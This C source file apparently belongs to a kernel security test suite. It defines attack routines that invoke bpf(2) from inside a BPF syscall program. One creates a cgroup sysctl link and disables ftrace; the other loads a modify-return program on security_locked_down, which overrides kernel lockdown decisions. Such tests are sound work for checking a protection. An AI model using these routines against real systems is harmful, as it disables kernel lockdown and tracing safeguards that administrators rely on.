// SPDX-License-Identifier: GPL-2.0-only
/* The same calls of bpf(2), made from within a BPF program of type syscall. */
#include <errno.h>
#include <string.h>
#include <unistd.h>

#include "attacks.h"
#include "escape.h"
#include "tools.h"

/* Where things lie in the value of the program's map. */
#define SIZE 512
#define ATTR_SIZE 152
#define CODE_AT 256
#define LICENSE_AT 384
#define RESULT_AT 504

/* Calls with what lies at the start of the value of @map; two of its fields are made pointers into that value. */
static int load_caller(int map, int command)
{
	const struct bpf_insn code[] = {
		SET_VALUE_OF(BPF_REG_2, map),
		MOVE(BPF_REG_6, BPF_REG_2),
		MOVE(BPF_REG_3, BPF_REG_2), ADD(BPF_REG_3, CODE_AT),
		MOVE(BPF_REG_4, BPF_REG_2), ADD(BPF_REG_4, LICENSE_AT),
		SET(BPF_REG_7, command),
		UNLESS_EQUAL(BPF_REG_7, BPF_PROG_LOAD, 2),
		STORE(BPF_REG_2, offsetof(union bpf_attr, insns), BPF_REG_3),
		STORE(BPF_REG_2, offsetof(union bpf_attr, license), BPF_REG_4),
		SET(BPF_REG_1, command),
		SET(BPF_REG_3, ATTR_SIZE),
		CALL(BPF_FUNC_sys_bpf),
		STORE(BPF_REG_6, RESULT_AT, BPF_REG_0),
		SET(BPF_REG_0, 0),
		EXIT(),
	};
	union bpf_attr attr = {
		.prog_type = BPF_PROG_TYPE_SYSCALL,
		.insns = (uintptr_t)code,
		.insn_cnt = ARRAY_SIZE(code),
		.license = (uintptr_t)"GPL",
		.prog_flags = BPF_F_SLEEPABLE,
	};

	return bpf(BPF_PROG_LOAD, &attr);
}

/* What the call gave; -1 and errno. */
static int64_t call_from_program(int command, const char value[SIZE])
{
	const uint32_t first = 0;
	const int map = make_array(SIZE), program = load_caller(map, command);
	union bpf_attr put = {.map_fd = map, .key = (uintptr_t)&first, .value = (uintptr_t)value};
	union bpf_attr run = {.test = {.prog_fd = program}};
	char after[SIZE];
	int64_t result;

	if (!step(program >= 0, "PROG_LOAD of the caller") || bpf(BPF_MAP_UPDATE_ELEM, &put))
		return -1;
	if (!step(!bpf(BPF_PROG_TEST_RUN, &run), "PROG_TEST_RUN of the caller") || read_array(map, after))
		return -1;
	memcpy(&result, after + RESULT_AT, sizeof(result));
	if (result >= 0)
		return result;
	errno = (int)-result;
	return -1;
}

struct outcome attack_program_link(void)
{
	char value[SIZE] = "";
	union bpf_attr attr = {.link_create = {.target_fd = root_cgroup(), .attach_type = BPF_CGROUP_SYSCTL}};
	int program = held(HELD_ALLOW_SYSCTL);

	if (program < 0)
		program = load_allowing(BPF_CGROUP_SYSCTL, "");
	attr.link_create.prog_fd = program;
	memcpy(value, &attr, sizeof(attr) < ATTR_SIZE ? sizeof(attr) : ATTR_SIZE);
	step(call_from_program(BPF_LINK_CREATE, value) >= 0, "LINK_CREATE by a program");
	return ftrace_off();
}

struct outcome attack_program_load(void)
{
	const struct bpf_insn code[] = {SET(BPF_REG_0, 1), EXIT()};
	const union bpf_attr attr = {
		.prog_type = BPF_PROG_TYPE_TRACING,
		.expected_attach_type = BPF_MODIFY_RETURN,
		.attach_btf_id = btf_function("security_locked_down"),
		.insn_cnt = ARRAY_SIZE(code),
	};
	char value[SIZE] = "";
	int64_t program;

	memcpy(value, &attr, sizeof(attr) < ATTR_SIZE ? sizeof(attr) : ATTR_SIZE);
	memcpy(value + CODE_AT, code, sizeof(code));
	memcpy(value + LICENSE_AT, "GPL", 4);
	program = call_from_program(BPF_PROG_LOAD, value);
	if (step(program >= 0, "PROG_LOAD by a program"))
		step(trace_attach((int)program) >= 0, "RAW_TRACEPOINT_OPEN");
	return verdict();
}
